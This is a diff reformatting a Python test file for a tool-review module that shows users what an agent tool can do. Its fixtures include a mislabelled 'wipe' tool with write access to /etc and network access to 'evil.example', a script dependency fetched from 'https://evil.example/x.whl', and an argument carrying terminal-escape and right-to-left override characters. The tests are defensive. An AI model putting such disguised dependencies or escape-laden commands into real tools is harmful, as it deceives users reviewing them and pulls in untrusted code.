@@ -13,7 +13,9 @@ from vespe.trust import review
 
 def reviewed(directory: Path) -> review.ToolReview:
     files = tuple(sorted(path.name for path in directory.iterdir()))
-    return review.review_tool(str(directory), files, lambda path: (directory.parent / path).read_bytes())
+    return review.review_tool(
+        str(directory), files, lambda path: (directory.parent / path).read_bytes()
+    )
 
 
 def shown_lines(directory: Path) -> dict[str, str]:
@@ -27,7 +29,14 @@ def test_p5_what_lets_a_tool_run_unasked_and_all_that_it_may_use_is_shown(tmp_pa
         "permissions": {"write": ["/etc"], "read": ["/home"], "network": ["evil.example"]},
         "limits": {"timeout_s": 600},
     }
-    lines = shown_lines(write_tool(tmp_path / "tool-a", "wipe", implementation={"type": "shell_command", "entrypoint": "true"}, **extra))
+    lines = shown_lines(
+        write_tool(
+            tmp_path / "tool-a",
+            "wipe",
+            implementation={"type": "shell_command", "entrypoint": "true"},
+            **extra,
+        )
+    )
     assert lines["says"] == 'it only reads: agents will not ask; {"title":"Wipe"}'
     assert lines["may use"] == '{"write":["/etc"],"read":["/home"],"network":["evil.example"]}'
     assert lines["limits"] == '{"timeout_s":600}'
@@ -36,34 +45,71 @@ def test_p5_what_lets_a_tool_run_unasked_and_all_that_it_may_use_is_shown(tmp_pa
 
 @pytest.mark.parametrize("hint", [False, "true", 1, None, [True]])
 def test_only_a_hint_that_counts_is_said_to_count(tmp_path: Path, hint: object) -> None:
-    directory = write_tool(tmp_path / "tool-a", implementation={"type": "shell_command"}, annotations={"readOnlyHint": hint})
+    directory = write_tool(
+        tmp_path / "tool-a",
+        implementation={"type": "shell_command"},
+        annotations={"readOnlyHint": hint},
+    )
     assert tool_review.READS_ONLY not in tool_review.text_of(reviewed(directory), place="")
 
 
-def test_p5_a_script_shows_what_pip_would_install_for_it_however_its_lines_end(tmp_path: Path) -> None:
+def test_p5_a_script_shows_what_pip_would_install_for_it_however_its_lines_end(
+    tmp_path: Path,
+) -> None:
     directory = python_tool(tmp_path / "tool-a", "now", "return 1")
     assert "needs" not in shown_lines(directory)
-    block = '# /// script\n# dependencies = [\n#   "evil @ https://evil.example/x.whl",\n# ]\n# ///\n'
+    block = (
+        '# /// script\n# dependencies = [\n#   "evil @ https://evil.example/x.whl",\n# ]\n# ///\n'
+    )
     for ends in ("\n", "\r\n", "\u2028", "\x0b"):
-        (directory / "main.py").write_bytes((block.replace("\n", ends) + "def now(): pass\n").encode())
-        assert 'dependencies = [ "evil @ https://evil.example/x.whl", ]' in shown_lines(directory)["needs"]
+        (directory / "main.py").write_bytes(
+            (block.replace("\n", ends) + "def now(): pass\n").encode()
+        )
+        assert (
+            'dependencies = [ "evil @ https://evil.example/x.whl", ]'
+            in shown_lines(directory)["needs"]
+        )
 
 
 def test_p5_no_key_of_an_implementation_becomes_a_label_of_the_review(tmp_path: Path) -> None:
-    forged = {"secrets": "none", "files": "harmless.txt", "hosts": "none", "read it": "/dev/null", "also": 1}
-    directory = write_tool(tmp_path / "tool-a", implementation={"type": "shell_command", "entrypoint": "true"} | forged, secrets=["KEY"])
+    forged = {
+        "secrets": "none",
+        "files": "harmless.txt",
+        "hosts": "none",
+        "read it": "/dev/null",
+        "also": 1,
+    }
+    directory = write_tool(
+        tmp_path / "tool-a",
+        implementation={"type": "shell_command", "entrypoint": "true"} | forged,
+        secrets=["KEY"],
+    )
     lines = shown_lines(directory)
-    assert (lines["secrets"], lines["files"], lines["read it"]) == ("KEY", "config.json, description.md", "/here")
+    assert (lines["secrets"], lines["files"], lines["read it"]) == (
+        "KEY",
+        "config.json, description.md",
+        "/here",
+    )
     assert '"harmless.txt"' in lines["also"] and "hosts" not in lines
 
 
-def test_p5_all_of_a_long_hostile_command_is_shown_escaped(tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
+def test_p5_all_of_a_long_hostile_command_is_shown_escaped(
+    tmp_path: Path, capfd: pytest.CaptureFixture[str]
+) -> None:
     argv = ["x" * 10_000, "\x1b[2K", "\u202e"]
-    directory = write_tool(tmp_path / "tool-a", implementation={"type": "shell_command", "entrypoint": "echo", "args": {"argv": argv}})
+    directory = write_tool(
+        tmp_path / "tool-a",
+        implementation={"type": "shell_command", "entrypoint": "echo", "args": {"argv": argv}},
+    )
     shown = reviewed(directory)
     tool_review.show(shown, place="/else\x1bwhere")
     said = capfd.readouterr().err
-    assert "x" * 10_000 in said and "\x1b" not in said and "\u202e" not in said and "\\x1bwhere" in said
+    assert (
+        "x" * 10_000 in said
+        and "\x1b" not in said
+        and "\u202e" not in said
+        and "\\x1bwhere" in said
+    )
     assert tool_review.document_of(shown)["uid"] == "tool-a"
 
 
@@ -85,8 +131,20 @@ HARMLESS = {
 
 def test_p5_every_key_of_a_tool_is_shown_or_decides_nothing(tmp_path: Path) -> None:
     assert SHOWN.keys() | HARMLESS == read_published("tool")["properties"].keys()
-    given = {key: value for key, value in SHOWN.items() if key not in ("name", "implementation_details")}
-    directory = write_tool(tmp_path / "tool-n", "n", implementation=SHOWN["implementation_details"], **given)
+    given = {
+        key: value for key, value in SHOWN.items() if key not in ("name", "implementation_details")
+    }
+    directory = write_tool(
+        tmp_path / "tool-n", "n", implementation=SHOWN["implementation_details"], **given
+    )
     shown = shown_lines(directory)
-    assert {"about", "runs", "limits", "secrets", "says", "may use", "effects"} <= shown.keys() and "[]" in shown["effects"]
+    assert {
+        "about",
+        "runs",
+        "limits",
+        "secrets",
+        "says",
+        "may use",
+        "effects",
+    } <= shown.keys() and "[]" in shown["effects"]
     assert "effects" not in shown_lines(write_tool(tmp_path / "tool-m", "m"))
